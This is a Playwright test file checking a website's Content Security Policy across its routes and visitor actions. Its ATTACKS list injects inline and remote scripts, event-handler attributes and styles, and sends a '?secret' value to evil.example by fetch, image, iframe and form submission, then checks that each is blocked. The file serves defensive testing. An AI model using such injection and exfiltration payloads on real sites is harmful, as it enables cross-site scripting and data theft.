/** Holds the site to the policy that it sends: all of it works under the policy, and nothing else does. */
import { createHash } from "node:crypto";
import { expect, type Page, test } from "playwright/test";
import { getAttribute } from "#site/rendering/html-tree.ts";
import { builtPages, textContent } from "#tests/support/browser/built-pages.ts";
import { mockQuoteApi, openQuoteForm, SUCCESS_TEXT } from "#tests/support/browser/quote-requests.ts";
import { MISSING_ROUTE, ROUTES } from "#tests/support/browser/routes.ts";
import { scrollThrough } from "#tests/support/browser/scroll-through.ts";
import { waitForHydration } from "#tests/support/browser/wait-for-hydration.ts";

const PHONE = { width: 360, height: 740 };
const PURPOSE = "sec-purpose";

/** Lists what the policy kept from happening in a page, and in those that it frames. */
async function violationsOf(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeBinding("tell", (_, violation: string) => violations.push(violation));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) => {
      window.tell(`${effectiveDirective}: ${blockedURI} ${sample}`.trim());
    });
  });
  page.on("console", (message) => {
    if (message.text().includes("Content Security Policy")) violations.push(message.text());
  });
  return violations;
}

declare global {
  interface Window {
    tell(violation: string): void;
  }
}

for (const route of [...ROUTES, MISSING_ROUTE]) {
  test(`${route} keeps to its policy down to its end, in the light and in the dark`, async ({ page }) => {
    const violations = await violationsOf(page);
    const response = await page.goto(route);
    const policy = response?.headers()["content-security-policy"];
    expect(policy).toMatch(/^default-src 'none'; script-src 'self' 'sha256-/);
    expect(policy).not.toContain("unsafe-");
    await scrollThrough(page);
    await page.emulateMedia({ colorScheme: "dark" });
    await scrollThrough(page);
    await page.waitForLoadState("networkidle");
    expect(violations).toEqual([]);
  });
}

/** What visitors do, each until it shows. */
const DEEDS: Record<string, (page: Page) => Promise<void>> = {
  async "a quote is asked for, and the toast says so"(page) {
    await mockQuoteApi(page);
    const { fill, button, toast } = await openQuoteForm(page);
    await fill();
    await button.click();
    await expect(toast).toContainText(SUCCESS_TEXT);
  },
  async "a form with errors is sent"(page) {
    const { button, form } = await openQuoteForm(page);
    await button.click();
    await expect(form.getByRole("link").first()).toBeVisible();
  },
  async "the form is opened from a page on farms"(page) {
    await page.goto("/farm");
    await page.getByRole("main").getByRole("link", { name: /quote/i }).first().click();
    await expect(page).toHaveURL(/\/contact/);
    await expect(page.getByLabel("Insurance Type")).toHaveValue("farm");
  },
  async "the map is shown"(page) {
    await page.route("https://www.openstreetmap.org/**", (route) =>
      route.fulfill({ contentType: "text/html", body: "<h1>A map</h1>" }),
    );
    await page.goto("/contact");
    await page.getByRole("link", { name: "Show the map" }).click();
    await expect(page.frameLocator("iframe").getByRole("heading")).toHaveText("A map");
  },
  async "the slider is turned"(page) {
    await page.goto("/");
    const next = page.getByRole("button", { name: "Next testimonial" });
    await next.scrollIntoViewIfNeeded();
    await waitForHydration(next);
    await next.click();
    await expect(page.getByText(/^2 of \d$/)).toBeVisible();
  },
  async "a note is opened"(page) {
    await page.goto("/");
    await page.getByRole("button", { name: "About Years of Service" }).hover();
    await expect(page.getByRole("tooltip")).toBeVisible();
  },
  async "the menu is opened"(page) {
    await page.setViewportSize(PHONE);
    await page.goto("/farm");
    await page.getByRole("button", { name: "Menu", exact: true }).click();
    await expect(page.getByRole("navigation", { name: "Main" })).toBeVisible();
  },
};

for (const [deed, act] of Object.entries(DEEDS)) {
  test(`the policy is kept while ${deed}`, async ({ page }) => {
    const violations = await violationsOf(page);
    await act(page);
    expect(violations).toEqual([]);
  });
}

test("a page that a visitor is about to open is prerendered", async ({ page }) => {
  const violations = await violationsOf(page);
  await page.goto("/farm");
  const prerendered = page.context().waitForEvent("request", {
    predicate: async (request) => (await request.headerValue(PURPOSE))?.includes("prerender") ?? false,
  });
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Medicare" }).hover();
  expect(new URL((await prerendered).url()).pathname).toBe("/medicare");
  expect(violations).toEqual([]);
});

/** What nobody could do who got something into a page; by the directive that keeps it from happening. */
const ATTACKS: [directive: string, attack: () => unknown][] = [
  [
    "script-src-elem",
    () =>
      document.head.append(Object.assign(document.createElement("script"), { text: "document.title = 'attacked'" })),
  ],
  [
    "script-src-elem",
    () =>
      document.head.append(Object.assign(document.createElement("script"), { src: "https://evil.example/attack.js" })),
  ],
  [
    "script-src-attr",
    () => {
      document.body.setAttribute("onclick", "document.title = 'attacked'");
      document.body.click();
    },
  ],
  ["script-src", () => setTimeout(() => new Function("document.title = 'attacked'")())],
  [
    "style-src-elem",
    () => document.head.append(Object.assign(document.createElement("style"), { textContent: "body { opacity: 0 }" })),
  ],
  ["style-src-attr", () => document.body.setAttribute("style", "opacity: 0")],
  ["img-src", () => document.body.append(Object.assign(new Image(), { src: "https://evil.example/?secret" }))],
  ["connect-src", () => fetch("https://evil.example/?secret").catch(() => undefined)],
  [
    "frame-src",
    () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })),
  ],
  [
    "base-uri",
    () => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" })),
  ],
  [
    "form-action",
    () => {
      const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
      document.body.append(form);
      form.submit();
    },
  ],
];

for (const [index, [directive, attack]] of ATTACKS.entries()) {
  test(`${directive} stops attack ${index + 1}`, async ({ page }) => {
    const violations = await violationsOf(page);
    await page.goto("/contact");
    await page.evaluate(attack).catch(() => undefined);
    await expect.poll(() => violations).toContainEqual(expect.stringContaining(`${directive}: `));
    const { title, opacity, path } = await page.evaluate(() => ({
      title: document.title,
      opacity: getComputedStyle(document.body).opacity,
      path: location.pathname,
    }));
    expect(title).not.toBe("attacked");
    expect([opacity, path]).toEqual(["1", "/contact"]);
  });
}

test("no page has anything inside that the policy does not name", async ({ request }) => {
  const unnamed: string[] = [];
  for (const { route, elements } of builtPages()) {
    const policy = (await request.get(route)).headers()["content-security-policy"] ?? "";
    for (const element of elements) {
      const { tagName, attrs } = element;
      for (const { name, value } of attrs) {
        if (name === "style" || name.startsWith("on") || /^\s*javascript:/i.test(value)) {
          unnamed.push(`${route} <${tagName} ${name}="${value}">`);
        }
      }
      const isData =
        getAttribute(element, "type") === "application/ld+json" || getAttribute(element, "src") !== undefined;
      if (tagName !== "style" && (tagName !== "script" || isData)) continue;
      const text = textContent(element);
      const digest = createHash("sha256").update(text).digest("base64");
      if (!policy.includes(`'sha256-${digest}'`)) unnamed.push(`${route} <${tagName}> ${text.slice(0, 60)}`);
    }
  }
  expect(unnamed).toEqual([]);
});
